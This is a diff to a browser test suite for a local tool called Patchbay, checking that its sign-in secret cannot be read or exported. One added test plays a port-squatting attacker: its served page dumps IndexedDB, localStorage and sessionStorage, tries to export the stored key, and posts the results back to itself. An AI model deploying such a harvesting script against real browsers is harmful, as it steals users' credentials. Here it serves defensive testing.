@@ -10,7 +10,6 @@ import { pathToFileURL } from 'node:url';
 import { test } from 'node:test';
 import { chromium, type Page } from 'playwright-core';
 import { buildIfStale } from '../../src/cli/start.ts';
-import { CREDENTIAL_KEY } from '../../src/web/browser-hub.ts';
 import { startControlServer } from '../../src/web/control-server.ts';
 import { tempDir, waitFor } from '../peers/wait.ts';
 import { NOW, createFakeHub, idleHostedDetail, type FakeHub } from '../web/fake-hub.ts';
@@ -42,8 +41,24 @@ test('after signing in, a page on another loopback port receives no credential, 
   const { ui } = await openFakeUi(t, 'ui-sign-in');
   await ui.page.getByRole('heading', { name: /Review inbox/ }).waitFor();
   assert.doesNotMatch(ui.page.url(), /signin/, 'the sign-in secret is gone from the address bar');
-  const credential = (await ui.page.evaluate(`localStorage.getItem(${JSON.stringify(CREDENTIAL_KEY)})`)) as string | null;
-  assert.ok(credential, 'the page keeps its credential in localStorage');
+  // What any script at Patchbay's address could read of the sign-in: its claim, and a key that does not give up its secret.
+  const kept = (await ui.page.evaluate(`new Promise((resolve, reject) => {
+    const open = indexedDB.open('patchbay');
+    open.onerror = () => reject(open.error);
+    open.onsuccess = () => {
+      const get = open.result.transaction('sign-in').objectStore('sign-in').get('current');
+      get.onsuccess = async () => {
+        const { claim, key } = get.result;
+        const exported = await crypto.subtle.exportKey('raw', key).then(() => 'exported', (err) => err.name);
+        resolve({ claim, extractable: key.extractable, exported, storage: JSON.stringify({ ...localStorage }) });
+      };
+    };
+  })`)) as { claim: string; extractable: boolean; exported: string; storage: string };
+  assert.match(kept.claim, /^v2\.[0-9a-f]{32}\./, 'the page keeps its sign-in');
+  assert.equal(kept.extractable, false);
+  assert.equal(kept.exported, 'InvalidAccessError', 'its secret cannot be read back');
+  assert.doesNotMatch(kept.storage, /v2\.[0-9a-f]{32}\.[0-9a-z]+\.[0-9a-z]+\./, 'localStorage holds no credential');
+  const credential = kept.claim;
 
   // Another program's page on another port, visited in the same browser, trying its luck.
   const control = ui.server.url;
@@ -87,6 +102,43 @@ test('after signing in, a page on another loopback port receives no credential, 
   assert.match(await stranger.locator('.sign-in').innerText(), /This page has no sign-in\.\n+Run patchbay open in a terminal/);
   await stranger.screenshot({ path: join(SHOTS, 'sign-in.png') });
   assert.deepEqual(ui.consoleErrors.filter((e) => !e.includes('WebSocket')), []);
+});
+
+test('a program that takes Patchbay’s port while it is away, and serves its own page there, reads no secret from the browser', { skip }, async (t) => {
+  const { ui, page } = await openFakeUi(t, 'ui-squatter');
+  await page.getByRole('heading', { name: /Review inbox/ }).waitFor();
+  const port = ui.server.port;
+  await ui.server.close();
+
+  // Its page reads everything this origin keeps and sends it home.
+  const reports: string[] = [];
+  const squatter = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c: Buffer) => (body += c.toString()));
+    req.on('end', () => {
+      if (req.url === '/report') reports.push(body);
+      res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>Patchbay</title><script>
+        const open = indexedDB.open('patchbay');
+        open.onsuccess = () => {
+          const get = open.result.transaction('sign-in').objectStore('sign-in').get('current');
+          get.onsuccess = async () => {
+            const key = get.result && get.result.key;
+            const raw = key ? await crypto.subtle.exportKey('raw', key).then((b) => btoa(String.fromCharCode(...new Uint8Array(b))), (e) => e.name) : null;
+            const jwk = key ? await crypto.subtle.exportKey('jwk', key).then((k) => JSON.stringify(k), (e) => e.name) : null;
+            fetch('/report', { method: 'POST', body: JSON.stringify({ kept: get.result, raw, jwk, local: { ...localStorage }, session: { ...sessionStorage } }) });
+          };
+        };
+      </script>`);
+    });
+  }).listen(port, '127.0.0.1');
+  await new Promise((resolve) => squatter.once('listening', resolve));
+  t.after(() => new Promise((resolve) => squatter.close(resolve)));
+  const visit = await page.context().newPage();
+  await visit.goto(`http://127.0.0.1:${port}/`);
+  const report = JSON.parse(await waitFor(() => reports[0], { message: 'the squatter’s report' })) as { raw: string; jwk: string; kept: unknown };
+  assert.equal(report.raw, 'InvalidAccessError');
+  assert.equal(report.jwk, 'InvalidAccessError');
+  assert.doesNotMatch(reports[0]!, /v2\.[0-9a-f]{32}\.[0-9a-z]+\.[0-9a-z]+\.[A-Za-z0-9_-]{43}/, 'no whole credential');
 });
 
 test('the page `patchbay open` hands the browser signs it in, leaves no secret in the address bar, and is deleted once used', { skip }, async (t) => {
